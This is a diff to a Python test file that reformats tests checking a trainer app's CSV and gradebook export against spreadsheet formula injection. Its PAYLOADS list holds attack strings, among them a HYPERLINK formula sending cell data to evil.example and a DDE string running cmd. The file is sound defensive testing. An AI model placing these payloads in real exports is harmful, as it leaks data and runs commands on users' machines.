@@ -17,8 +17,15 @@ from trainer.scoring import score
 from trainer.spreadsheet import FORMULA_STARTS, SafeCsvWriter, neutralise
 from trainer.terminal import printable
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1", "\uff1d1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+]
 
 
 @pytest.mark.parametrize("start", FORMULA_STARTS)
@@ -27,8 +34,14 @@ def test_a_text_cell_that_could_start_a_formula_gets_an_apostrophe(start):
 
 
 def test_other_cells_are_left_alone():
-    assert [neutralise(c) for c in ("You felt alone.", "a=b", "", -5, 3.5, None)] == \
-        ["You felt alone.", "a=b", "", -5, 3.5, None]
+    assert [neutralise(c) for c in ("You felt alone.", "a=b", "", -5, 3.5, None)] == [
+        "You felt alone.",
+        "a=b",
+        "",
+        -5,
+        3.5,
+        None,
+    ]
 
 
 def test_the_writer_neutralises_every_cell_of_every_row():
@@ -53,8 +66,10 @@ def test_export_csv_neutralises_response_client_session_and_scenario(scenario_di
 
 def test_the_gradebook_neutralises_a_student_name(tmp_path):
     for n, payload in enumerate(PAYLOADS):
-        export = {"student": payload, "attempts": [{"scenario": "lonely-birthday", "turn": 1,
-                                                    "response": "You felt forgotten."}]}
+        export = {
+            "student": payload,
+            "attempts": [{"scenario": "lonely-birthday", "turn": 1, "response": "You felt forgotten."}],
+        }
         (tmp_path / f"{n}.json").write_text(json.dumps(export), encoding="utf-8")
     result = CliRunner().invoke(cli, ["grade", str(tmp_path)])
     assert result.exit_code == 0
